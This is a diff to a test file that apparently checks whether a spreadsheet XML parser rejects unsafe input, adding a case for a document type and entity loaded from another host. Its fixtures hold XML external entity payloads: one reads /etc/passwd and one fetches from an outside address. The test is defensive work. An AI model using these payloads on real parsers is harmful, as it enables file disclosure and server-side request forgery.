@@ -36,6 +36,7 @@ LAUGHS = (
     + "]>"
 )
 EXTERNAL = '<!DOCTYPE l [<!ENTITY i SYSTEM "file:///etc/passwd">]>'
+ELSEWHERE = '<!DOCTYPE l SYSTEM "http://192.0.2.7/l.dtd" [<!ENTITY i SYSTEM "http://192.0.2.7/">]>'
 MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 
 
@@ -154,6 +155,10 @@ XML: Cases = {
     ),
     "a file fetched from outside": (
         part(WORKBOOK, f"{EXTERNAL}<workbook>&i;</workbook>".encode()),
+        Code.FILE_UNSAFE,
+    ),
+    "a document type from another host": (
+        part(WORKBOOK, f"{ELSEWHERE}<workbook>&i;</workbook>".encode()),
         Code.FILE_UNSAFE,
     ),
     "a document type in utf-16": (
